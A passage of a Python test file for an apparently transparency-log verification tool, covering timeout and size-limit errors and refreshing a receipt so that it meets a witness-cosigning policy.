        assert b"answer too large: over 8192 bytes" in p.stderr, p.stderr

        def slow(path, h):
            if path == "/checkpoint":
                import time
                time.sleep(3)
        r.route = slow
        p = run("get", "checkpoint", *L(env, r.url), "--timeout", "500",
                check=3)
        assert b"timed out" in p.stderr or b"Timeout" in p.stderr, p.stderr
        r.kill()
    finally:
        env.close()


def test_receipt_brought_up_to_the_policy():
    """A receipt issued before the witness quorum cosigned (the log does
    not wait for it) fails `verify --policy` offline; `verify --log
    --policy --refresh` proves it in the log's cosigned checkpoint and
    rewrites it, and then it verifies under the policy offline."""
    import test_witness_log as twl
    k, d, w1, w2 = twl.setup(wait=0)
    try:
        base = ptlib.tmpdir()
        vkey = d.vkey()
        pol = os.path.join(base, "policy")
        with open(pol, "w") as f:
            f.write("log %s\nwitness w1 %s\nwitness w2 %s\n"
                    "group both all w1 w2\nquorum both\n" %
                    (vkey, w1.vkey, w2.vkey))
        r = d.post("/add", ptlib.submission(payment("Q-1"), k, d.origin))
        assert r.status == 200, r.body
        rcpt = os.path.join(base, "q.receipt")
        with open(rcpt, "wb") as f:
            f.write(r.body)
        _, _, note = ptlib.parse_tlog_proof(ptlib.unpackb(r.body)["proof"])
        url = "http://127.0.0.1:%d" % d.port
        ok = twl.wait_for(lambda: d.get("/checkpoint").body.count(
            "\u2014 ".encode()) >= 3)
        assert ok, d.get("/checkpoint").body
        p = run("verify", "--log-key", vkey, "--policy", pol, rcpt, check=1)
        assert b"witness policy" in p.stderr, p.stderr
        # issued at once, before any witness saw its checkpoint
        assert note.count("\u2014 ") == 1, note
        p = run("verify", "--log", url, "--log-key", vkey, "--policy", pol,
                "--refresh", rcpt, check=0)
        assert b"meets the witness policy" in p.stdout and \
            b"refreshed" in p.stdout, p.stdout
        p = run("verify", "--log-key", vkey, "--policy", pol, rcpt, check=0)
        assert b"witness w1: cosigned" in p.stdout, p.stdout
    finally:
        d.kill()
        w1.kill()
        w2.kill()


if __name__ == "__main__":
    sys.exit(ptlib.run_tests([test_answers_bound_to_questions,
                              test_stale_is_not_rollback,
                              test_exports_safe_to_open,
                              test_terminal_cannot_be_forged,
                              test_closed_pipe_and_small_things,
                              test_names_people_can_trust,
                              test_gossip_peer_claims,
                              test_corrections_everywhere,
                              test_bounded_memory,
                              test_receipt_brought_up_to_the_policy]))
